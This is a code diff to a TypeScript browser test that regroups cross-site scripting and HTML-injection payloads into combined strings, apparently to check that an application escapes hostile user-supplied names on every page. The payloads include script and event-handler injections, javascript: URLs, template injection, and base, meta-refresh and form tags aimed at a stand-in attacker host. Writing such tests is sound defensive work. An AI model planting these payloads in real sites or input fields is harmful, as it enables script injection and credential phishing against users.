@@ -6,28 +6,39 @@ import { alice, api, furnish } from '../support/fixtures.ts'
 import { authorizeUrl } from '../support/protocol.ts'
 import { complaintsOf, type Site, startSite } from './site.ts'
 
+/** Those of a line come as one text, which a name has room for: whichever of them gets out shows. */
 const payloads = [
-  '<script>alert(1)</script>',
-  '</title><script>alert(1)</script>',
-  '"><script>alert(1)</script>',
-  "'><img src=x onerror=alert(1)>",
-  '"><svg onload=alert(1)>',
-  '" autofocus onfocus="alert(1)',
-  "' autofocus onfocus='alert(1)",
-  '` onmouseover=alert(1) `',
-  'JaVaScRiPt:alert(1)',
-  '</textarea></style></script><iframe srcdoc="<script>parent.alert(1)</script>">',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<base href="https://attacker.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
-  '<link rel=stylesheet href="https://attacker.example/x.css">',
-  '<form action="https://attacker.example/"><button>Sign in</button></form>',
-  '<a href="javascript:alert(1)" autofocus>x</a>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '\u202E<img src=x onerror=alert(1)>\u2066',
-  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
-]
+  [
+    '<script>alert(1)</script>',
+    '</title><script>alert(1)</script>',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+  ],
+  // No bracket before a quotation mark.
+  ["' autofocus onfocus='alert(1)", '" autofocus onfocus="alert(1)', '` onmouseover=alert(1) `'],
+  // An address begins with its scheme.
+  [
+    'JaVaScRiPt:alert(1)',
+    '${alert(1)}{{constructor.constructor("alert(1)")()}}',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+  ],
+  [
+    '</textarea></style></script><iframe srcdoc="<script>parent.alert(1)</script>">',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  ],
+  [
+    '<base href="https://attacker.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
+    '<link rel=stylesheet href="https://attacker.example/x.css">',
+  ],
+  [
+    '<form action="https://attacker.example/"><button>Sign in</button></form>',
+    '<a href="javascript:alert(1)" autofocus>x</a>',
+    '\u202E<img src=x onerror=alert(1)>\u2066',
+  ],
+].map((each) => each.join(''))
 
 describe('people: hostile text on every page, in Chromium (C12, P-071)', function () {
   this.timeout(60_000)
